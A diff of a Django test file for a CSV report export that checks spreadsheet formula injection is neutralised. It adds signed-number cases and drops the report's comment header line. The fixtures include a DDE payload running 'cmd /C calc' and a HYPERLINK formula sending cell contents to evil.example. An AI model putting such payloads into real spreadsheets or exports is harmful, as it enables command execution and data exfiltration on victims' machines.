@@ -34,8 +34,18 @@ EVIL_SEGMENT = "@SUM(1+1)*cmd|' /C calc'!A0"
         ("@SUM(A1)", "'@SUM(A1)"),
         ("\tx", "'\tx"),
         ("\rx", "'\rx"),
-        ("-0.5", "-0.5"),  # a plain negative number stays a number
+        ("-0.5", "-0.5"),  # a plain signed number stays a number
         ("-30", "-30"),
+        ("+0.5", "+0.5"),
+        ("+0.0", "+0.0"),
+        ("-1.2", "-1.2"),
+        ("1e-3", "1e-3"),
+        ("-.5", "-.5"),
+        ("+1e+3+cmd", "'+1e+3+cmd"),
+        ("-1-1", "'-1-1"),
+        ("+", "'+"),
+        ("-", "'-"),
+        ("+0.5 ", "'+0.5 "),
         ("cheap", "cheap"),
         ("", ""),
         (None, ""),
@@ -47,7 +57,7 @@ def test_neutralise(cell, expected):
     assert neutralise(cell) == expected
 
 
-def test_csv_response_streams_a_generator_with_a_first_line_and_safe_name():
+def test_csv_response_streams_a_generator_header_first_with_a_safe_name():
     produced = []
 
     def rows():
@@ -55,13 +65,12 @@ def test_csv_response_streams_a_generator_with_a_first_line_and_safe_name():
             produced.append(i)
             yield [f"row {i}", "=cmd()", None]
 
-    response = csv_response("report: a/b?.csv", "my report", ["A", "B", "C"], rows())
+    response = csv_response("report: a/b?.csv", ["A", "B", "C"], rows())
     assert isinstance(response, StreamingHttpResponse)
     assert produced == []  # nothing is computed before the body is read
     assert response["Content-Disposition"] == 'attachment; filename="report_a_b_.csv"'
     assert response["Content-Type"] == "text/csv; charset=utf-8"
-    first, rows_read = csv_rows(response)
-    assert first == "# my report"
+    rows_read = csv_rows(response)
     assert rows_read == [["A", "B", "C"]] + [[f"row {i}", "'=cmd()", ""] for i in range(3)]
 
 
@@ -85,13 +94,8 @@ def test_the_csv_equals_the_table_on_screen(client, viewer, tiny, by):
     shown = html_table(page.content)
     download = client.get("/reports/", {**WINDOW, "by": by, "format": "csv"})
     assert download.status_code == 200
-    first, rows = csv_rows(download)
-    assert rows == shown
-    assert first.startswith("# Longtail tier report")
-    assert "plan tiny" in first
-    assert "window 2025-03-04 to 2025-03-04" in first
-    assert "method wilson" in first
-    assert "generated " in first
+    rows = csv_rows(download)
+    assert rows == shown  # the header is the first row, then the table's rows
     disposition = download["Content-Disposition"]
     kind = "tiers" if by == "tier" else f"tiers-by-{by}"
     assert f'filename="longtail-{kind}-tiny-2025-03-04_2025-03-04-wilson-' in disposition
@@ -103,11 +107,8 @@ def test_the_summary_csv_equals_its_table(client, viewer, tiny):
     params = {**WINDOW, "cost_per_wrong": "7", "method": "korn-graubard"}
     shown = html_table(client.get("/reports/summary/", params).content)
     download = client.get("/reports/summary/", {**params, "format": "csv"})
-    first, rows = csv_rows(download)
+    rows = csv_rows(download)
     assert rows == shown
-    assert "leadership summary" in first
-    assert "method korn-graubard" in first
-    assert "cost per wrong answer 7.00" in first
     assert (
         "longtail-summary-tiny-2025-03-04_2025-03-04-korn-graubard-"
         in (download["Content-Disposition"])
@@ -130,7 +131,7 @@ def test_injection_cells_are_neutralised_in_the_csv_and_escaped_on_screen(client
     page = client.get("/reports/", params)
     assert b"=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1" in page.content
     shown = html_table(page.content)
-    _, rows = csv_rows(client.get("/reports/", {**params, "format": "csv"}))
+    rows = csv_rows(client.get("/reports/", {**params, "format": "csv"}))
     assert rows == [[neutralise(cell) for cell in row] for row in shown]
     cells = {cell for row in rows for cell in row}
     assert "'" + EVIL_TIER in cells
@@ -155,7 +156,7 @@ def test_an_empty_window_shows_no_download(client, viewer, tiny):
     client.force_login(viewer)
     page = client.get("/reports/", {**WINDOW, "start": "2025-01-01", "end": "2025-01-02"})
     assert b"Download CSV" not in page.content
-    _, rows = csv_rows(
+    rows = csv_rows(
         client.get(
             "/reports/", {**WINDOW, "start": "2025-01-01", "end": "2025-01-02", "format": "csv"}
         )
@@ -169,7 +170,7 @@ def test_two_days_of_queues_share_a_file(client, viewer, tiny, reviewer):
     client.force_login(viewer)
     params = {**WINDOW, "end": "2025-03-05"}
     shown = html_table(client.get("/reports/", params).content)
-    _, rows = csv_rows(client.get("/reports/", {**params, "format": "csv"}))
+    rows = csv_rows(client.get("/reports/", {**params, "format": "csv"}))
     assert rows == shown
     cheap = dict(zip(rows[0], next(r for r in rows if r[0] == "cheap"), strict=True))
     assert cheap["Responses"] == "200"
